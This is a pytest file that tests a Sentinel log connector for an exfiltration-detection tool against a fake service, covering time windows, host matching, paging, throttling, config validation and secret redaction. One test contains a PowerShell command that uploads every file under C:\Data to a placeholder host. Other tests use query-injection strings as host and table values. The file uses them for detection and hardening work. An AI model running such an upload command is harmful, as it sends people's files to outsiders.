"""Microsoft Sentinel, against the fake, over HTTP."""

import json

import pytest

from exfilwatch.detection.load import load
from exfilwatch.errors import AuthError, ConfigError, PartialResult, RateLimited, SourceError
from exfilwatch.rules.packs import pack
from exfilwatch.siem.registry import open_siem
from exfilwatch.siem.sentinel import Sentinel, SentinelSettings
from exfilwatch.siem.siem import SECOND, Clock, Near, Siem

from .fetching import Naps, events, fetched, run
from .loopback import Answer, answer_json
from .microsoft import NOON, hunted, security, shape, stamp

pytest.importorskip("duckdb", reason="DuckDB runs the fake's queries: pip install 'duckdb-kql[duckdb]'")
from .fake_microsoft import LOGS, SECRET, FakeMicrosoft

HOUR = 3600 * SECOND


@pytest.fixture
def fake():
    with FakeMicrosoft() as fake:
        fake.now = (NOON + 24 * HOUR) / SECOND
        yield fake


def sentinel(fake: FakeMicrosoft, **settings: object) -> Sentinel:
    """Waits take no time."""
    chosen = SentinelSettings.model_validate({"kind": "sentinel", **fake.settings(), **settings})
    return Sentinel("soc", chosen, sleep=Naps())


def numbers(records: list[dict[str, object]]) -> list[str]:
    return sorted(str(record.get("EventRecordId") or record.get("ReportId")) for record in records)


def test_an_interval_has_its_first_moment_and_not_its_last(fake):
    for number, at in enumerate([NOON - 1, NOON, NOON + 1, NOON + HOUR - 1, NOON + HOUR]):
        fake.kusto.add("SecurityEvent", security(NOON, number), at)
    assert numbers(fetched(sentinel(fake), NOON, NOON + HOUR)) == ["1", "2", "3"]


def test_intervals_that_touch_have_each_record_once_also_between_two_microseconds(fake):
    fake.kusto.add("SecurityEvent", security(NOON, 1, TimeGenerated=stamp(NOON, 9)), NOON)
    first, second = (fetched(sentinel(fake), low, low + 1, clock=Clock.EVENT) for low in (NOON, NOON + 1))
    assert (numbers(first), second) == (["1"], [])


def test_by_ingestion_time_a_record_that_comes_days_late_is_found_when_it_comes(fake):
    fake.kusto.add("SecurityEvent", security(NOON - 49 * HOUR, 1), NOON + 5)
    assert numbers(fetched(sentinel(fake), NOON, NOON + 10)) == ["1"]
    assert fetched(sentinel(fake), NOON, NOON + 10, clock=Clock.EVENT) == []
    assert numbers(fetched(sentinel(fake), NOON - 50 * HOUR, NOON, clock=Clock.EVENT)) == ["1"]


def test_records_are_those_of_the_field_maps_and_say_when_they_were_ingested(fake):
    asim = {"TimeGenerated": stamp(NOON), "EventSchema": "ProcessEvent", "EventType": "ProcessCreated"}
    session = {"TimeGenerated": stamp(NOON), "EventSchema": "NetworkSession", "EventType": "EndpointNetworkSession"}
    file = {"TimeGenerated": stamp(NOON), "EventSchema": "FileEvent", "EventType": "FileCreated"}
    sysmon = {"Channel": "Microsoft-Windows-Sysmon/Operational", "Provider": "Microsoft-Windows-Sysmon"}
    data = {"Image": r"C:\a.exe", "CommandLine": "a.exe x"}
    tables = {
        "SecurityEvent": (security(NOON), "sentinel_windows"),
        "WindowsEvent": ({**security(NOON), **sysmon, "EventID": 1, "EventData": data}, "sentinel_windows"),
        "Event": ({**security(NOON), "EventLog": "Security", "Source": "S", "EventData": "<x/>"}, "sentinel_windows"),
        "DeviceProcessEvents": ({"TimeGenerated": stamp(NOON), **hunted(NOON)}, "defender"),
        "DeviceNetworkEvents": ({"TimeGenerated": stamp(NOON), **hunted(NOON, RemoteIP="203.0.113.7")}, "defender"),
        "ASimProcessEventLogs": ({**asim, "TargetProcessName": "a", "DvcHostname": "WS1"}, "asim_process"),
        "ASimNetworkSessionLogs": ({**session, "DstIpAddr": "203.0.113.7"}, "asim_endpoint_network"),
        "ASimFileEventLogs": ({**file, "TargetFilePath": "a", "DvcHostname": "WS1"}, "asim_file"),
    }
    for name, (row, _) in tables.items():
        fake.kusto.add(name, row, NOON + 7 * SECOND)
    found = fetched(sentinel(fake), NOON, NOON + HOUR)
    assert [shape(record) for record in found] == [
        expected for name in sentinel(fake).settings.tables if name in tables for expected in [tables[name][1]]
    ]
    assert {event.ingest_time for event in events(found)} == {NOON + 7 * SECOND}
    assert {event.time for event in events(found)} == {NOON}
    assert found[0]["TimeGenerated"] == stamp(NOON)
    assert json.loads(json.dumps(found[1]["EventData"])) == data


@pytest.mark.parametrize("host", ["ws1", 'a"b', "a\\", '" or true or "', "a\r\n| take 1", "\x00\x01", "ws-é-日本"])
def test_a_hosts_name_is_text_whatever_it_is(fake, host):
    fake.kusto.add("SecurityEvent", security(NOON, 1, host))
    fake.kusto.add("SecurityEvent", security(NOON, 2, f"{host}x"))
    fake.kusto.add("SecurityEvent", security(NOON, 3, "other"))
    near = (Near(host, NOON - 1, NOON + 1), Near("no such host", NOON, NOON))
    assert numbers(fetched(sentinel(fake), near=near)) == ["1"]


def test_a_host_is_found_in_upper_and_lower_case_within_its_span_both_ends_included(fake):
    for number, (host, at) in enumerate(
        [("ws1", NOON), ("WS1", NOON + HOUR), ("Ws1", NOON - 1), ("ws1", NOON + HOUR + 1), ("ws2", NOON)]
    ):
        fake.kusto.add("SecurityEvent", security(at, number, host))
    fake.kusto.add("SecurityEvent", security(NOON, 9, "ws1", TimeGenerated=stamp(NOON + HOUR, 9)))
    near = (Near("WS1", NOON, NOON + HOUR),)
    assert numbers(fetched(sentinel(fake), near=near)) == ["0", "1", "9"]


@pytest.mark.parametrize("column", ["DvcHostname", "Dvc", "DvcFQDN", "DvcIpAddr"])
def test_whichever_column_names_the_host(fake, column):
    row = {"TimeGenerated": stamp(NOON), "EventType": "ProcessCreated", "TargetProcessName": "a", column: "ws1"}
    fake.kusto.add("ASimProcessEventLogs", row)
    assert len(fetched(sentinel(fake), near=(Near("ws1", NOON, NOON),))) == 1


def test_the_host_of_a_syslog_line_may_stand_in_the_line(fake):
    line = "<Event><System><Provider Name='Linux-Sysmon'/><Computer>web1.corp</Computer></System></Event>"
    row = {"TimeGenerated": stamp(NOON + 5 * SECOND), "Computer": "web1", "HostName": "web1", "SyslogMessage": line}
    fake.kusto.add("Syslog", row)
    fake.kusto.add("Syslog", {**row, "SyslogMessage": "session opened for user ann on web1.corp"})
    near = (Near("web1.corp", NOON, NOON),)
    assert len(fetched(sentinel(fake, tables="Syslog"), near=near)) == 1


def test_more_rows_than_one_answer_may_have_are_refused_so_that_the_interval_is_halved(fake):
    for number in range(10):
        fake.kusto.add("SecurityEvent", security(NOON + number, number))
    with pytest.raises(PartialResult, match="SecurityEvent: 10 records or more: halve the interval"):
        fetched(sentinel(fake, rows=10), NOON, NOON + HOUR)
    assert len(fetched(sentinel(fake, rows=11), NOON, NOON + HOUR)) == 10


def test_of_one_moment_all_records_are_read_in_parts(fake):
    for number in range(200):
        fake.kusto.add("SecurityEvent", security(NOON + number, number), NOON)
    found = fetched(sentinel(fake, rows=25), NOON, NOON + 1)
    assert set(numbers(found)) == {str(number) for number in range(200)}


@pytest.mark.parametrize("limit", ["rows", "size"])
def test_an_answer_that_the_service_has_cut_is_refused(fake, limit):
    for number in range(10):
        fake.kusto.add("SecurityEvent", security(NOON + number, number))
    getattr(fake, limit)[LOGS] = {"rows": 5, "size": 2000}[limit]
    with pytest.raises(PartialResult, match=r"the answer is not whole: PartialError: .*E_QUERY_RESULT_SET_TOO_LARGE"):
        fetched(sentinel(fake), NOON, NOON + HOUR)


def test_a_query_that_takes_too_long_is_refused_likewise_and_not_repeated(fake):
    fake.kusto.create("SecurityEvent")
    error = {"code": "GatewayTimeout", "message": "The operation timed out", "innererror": {"code": "GatewayTimeout"}}
    fake.instead.append(answer_json({"error": error}, 504))
    with pytest.raises(PartialResult, match="GatewayTimeout"):
        fetched(sentinel(fake), NOON, NOON + HOUR)
    assert len(fake.queries) == 1


def test_the_service_is_told_how_long_we_wait(fake):
    run(siem := sentinel(fake, timeout="100s"), siem.now())
    assert fake.requests[-1].headers["prefer"] == "wait=90"


def test_tables_that_a_workspace_lacks_have_no_records(fake):
    fake.kusto.add("WindowsEvent", security(NOON))
    assert len(fetched(sentinel(fake), NOON, NOON + 1)) == 1


def test_tables_that_somebody_listed_have_to_be_there(fake):
    fake.kusto.add("SecurityEvent", security(NOON))
    with pytest.raises(SourceError, match=r"'SecurityEvnt'.*is the table's connector on"):
        fetched(sentinel(fake, tables="SecurityEvent, SecurityEvnt"), NOON, NOON + 1)


def test_a_workspace_with_none_of_the_tables_is_no_empty_one(fake):
    with pytest.raises(SourceError, match="none of these tables is there: ASimFileEventLogs, "):
        fetched(sentinel(fake), NOON, NOON + 1)


def test_places_tell_count_and_newest_of_the_last_day_or_what_is_wrong(fake):
    for number in range(3):
        fake.kusto.add("SecurityEvent", security(NOON + HOUR + number, number))
    fake.kusto.add("SecurityEvent", security(NOON - HOUR))
    fake.kusto.create("WindowsEvent")
    found = run(siem := sentinel(fake, tables="SecurityEvent,WindowsEvent,Absent_CL"), siem.places())
    assert [(place.name, place.records, place.newest) for place in found] == [
        ("SecurityEvent", 3, NOON + HOUR + 2),
        ("WindowsEvent", 0, None),
        ("Absent_CL", None, None),
    ]
    assert [bool(place.problem) for place in found] == [False, False, True]


def test_its_clock_is_asked_for(fake):
    now = run(siem := sentinel(fake), siem.now())
    assert now == NOON + 24 * HOUR


def test_the_least_role_that_suffices_is_named(fake):
    fake.rights = set()
    fake.kusto.add("SecurityEvent", security(NOON))
    with pytest.raises(
        AuthError, match=r"InsufficientAccessError: .*: give the application the role Log Analytics Reader"
    ):
        fetched(sentinel(fake), NOON, NOON + 1)
    places = run(siem := sentinel(fake, tables="SecurityEvent"), siem.places())
    assert "Log Analytics Reader" in places[0].problem


def test_told_to_wait_it_waits_and_asks_again(fake):
    fake.kusto.add("SecurityEvent", security(NOON))
    throttled = {"error": {"code": "ThrottledError", "message": "Rate limit is exceeded"}}
    fake.instead.append(answer_json(throttled, 429, Retry_After="0"))
    siem = sentinel(fake, tables="SecurityEvent")
    assert len(fetched(siem, NOON, NOON + 1)) == 1
    assert (siem.traffic.requests, siem.traffic.retries) == (2, 1)
    assert siem.traffic.bytes > 0


def test_told_to_wait_long_it_says_so_at_once(fake):
    fake.instead.append(answer_json({"error": {"code": "ThrottledError", "message": "x"}}, 429, Retry_After="900"))
    with pytest.raises(RateLimited) as caught:
        fetched(sentinel(fake), NOON, NOON + 1)
    assert (caught.value.wait, len(fake.queries)) == (900.0, 1)


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        (Answer(200, b""), "what is not its API's JSON"),
        (Answer(200, b'{"tables":[{"name":"PrimaryResult","columns":[],"rows":[['), "what is not its API's JSON"),
        (Answer(200, b"<html>Sign in</html>"), "what is not its API's JSON"),
        (answer_json({"hello": 1}, 200), "the answer has no rows"),
        (Answer(200, b'{"tables":[{"name"', cut=9), "check `url`"),
        (Answer(502, b"<html>"), "answered 502"),
        (answer_json({"error": {"code": "ServiceUnavailable", "message": "later"}}, 503), "ServiceUnavailable: later"),
    ],
)
def test_an_answer_that_is_broken_is_no_empty_one(fake, answer, said):
    fake.instead.extend([answer] * 5)
    with pytest.raises(SourceError, match=said):
        fetched(sentinel(fake), NOON, NOON + 1)


def test_a_workspace_without_any_data_answers_nothing(fake):
    fake.kusto.create("SecurityEvent")
    fake.instead.append(Answer(204, b""))
    assert fetched(sentinel(fake, tables="SecurityEvent"), NOON, NOON + 1) == []


def test_an_error_that_nobody_knows_is_told_in_the_vendors_words(fake):
    fake.instead.append(
        answer_json({"error": {"code": "BadArgumentError", "message": "Something odd", "details": [7]}}, 400)
    )
    with pytest.raises(SourceError, match="answered 400: BadArgumentError: Something odd"):
        fetched(sentinel(fake), NOON, NOON + 1)


def test_a_record_that_is_not_yet_to_be_seen_is_found_later(fake):
    fake.kusto.add("SecurityEvent", security(NOON), NOON + 25 * HOUR)
    assert fetched(sentinel(fake), NOON, NOON + 48 * HOUR) == []
    fake.now = (NOON + 26 * HOUR) / SECOND
    assert len(fetched(sentinel(fake), NOON, NOON + 48 * HOUR)) == 1


def test_capabilities_are_those_that_it_has(fake):
    siem = sentinel(fake, rows=1000)
    assert isinstance(siem, Siem)
    has = siem.capabilities
    assert (has.ingest_time, has.cap, has.step, has.pages, has.settle) == (True, 1000, 1, True, 120 * SECOND)
    assert not sentinel(fake, tables="_Im_ProcessCreate", clock="event").capabilities.ingest_time


def test_a_view_is_asked_by_event_time_and_for_no_other(fake):
    row = {"TimeGenerated": stamp(NOON), "EventType": "ProcessCreated", "TargetProcessName": "a"}
    fake.kusto.add("_Im_ProcessCreate", row)
    siem = sentinel(fake, tables="_Im_ProcessCreate", clock="event")
    assert len(fetched(siem, NOON, NOON + 1, clock=Clock.EVENT)) == 1
    assert "ingestion_time" not in fake.queries[0]["query"]


@pytest.mark.parametrize(
    ("settings", "said"),
    [
        ({"client_secret": None}, "settings: give client_secret or certificate"),
        ({"certificate": "a.pem"}, "settings: give client_secret or certificate"),
        ({"client_secret": ""}, "client_secret: "),
        ({"workspace": "soc-workspace"}, "workspace: .*UUID"),
        ({"client_id": SECRET}, "client_id: .*UUID"),
        ({"tenant": "corp/../x"}, "tenant: "),
        ({"tables": "SecurityEvent | take 1"}, "tables: list names of tables"),
        ({"tables": ""}, "tables: list names of tables"),
        ({"tables": ["_Im_ProcessCreate"]}, 'a view knows no ingestion times: list tables, or set clock = "event"'),
        ({"tables": ["imProcessCreate"], "clock": "ingest"}, "a view knows no ingestion times"),
        ({"rows": 0}, "rows: "),
        ({"cloud": "mars"}, "cloud: .*'china'"),
        ({"fingerprint": "ab" * 32}, "fingerprint can't be used"),
        ({"login": "http://login.example"}, "login: is not encrypted"),
    ],
)
def test_wrong_settings_are_named(fake, settings, said):
    with pytest.raises(ConfigError, match=rf"siem\.soc: .*{said}") as caught:
        open_siem("soc", {"kind": "sentinel", **fake.settings(), **settings})
    assert SECRET not in str(caught.value)


@pytest.mark.parametrize(
    ("cloud", "url"),
    [
        ("public", "https://api.loganalytics.azure.com"),
        ("usgov", "https://api.loganalytics.us"),
        ("china", "https://api.loganalytics.azure.cn"),
    ],
)
def test_each_cloud_has_its_address(fake, cloud, url):
    settings = {name: value for name, value in fake.settings().items() if name not in ("url", "login")}
    siem = open_siem("soc", {"kind": "sentinel", "cloud": cloud, **settings})
    assert siem.settings.url == url


def test_no_secret_is_shown(fake):
    siem = sentinel(fake)
    assert SECRET not in f"{siem.settings!r} {siem.settings} {siem!r} {vars(siem)}"


@pytest.mark.parametrize("pushdown", ["off", "candidates", "score"])
def test_the_service_selects_what_the_rules_look_for(fake, pushdown):
    uploads = (
        r"powershell -c gci C:\Data -Recurse | % { (New-Object Net.WebClient).UploadFile('https://x/', $_.FullName) }"
    )
    shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    fake.kusto.add("SecurityEvent", security(NOON, 1, CommandLine=uploads, NewProcessName=shell))
    fake.kusto.add("SecurityEvent", security(NOON, 2, CommandLine="notepad", NewProcessName=r"C:\notepad.exe"))
    rules = load([pack("seed")]).rules
    siem = sentinel(fake, tables="SecurityEvent", pushdown=pushdown)
    found = set(numbers(fetched(siem, NOON, NOON + 1, rules=rules)))
    assert "1" in found
    assert ("2" in found) == (pushdown == "off")


def test_a_secret_that_a_server_sends_back_is_not_shown(fake):
    """Neither in a message that is passed on, nor in one that is understood."""
    for status, said in [
        (400, "Something odd"),
        (400, "exceeded the allowed limits"),
        (403, "InsufficientAccessError"),
    ]:
        fake.instead.append(answer_json({"error": {"code": said, "message": f"you sent {SECRET}"}}, status))
        with pytest.raises(SourceError, match=r"you sent \*\*\*") as caught:
            fetched(sentinel(fake), NOON, NOON + HOUR)
        assert SECRET not in f"{caught.value!r}"
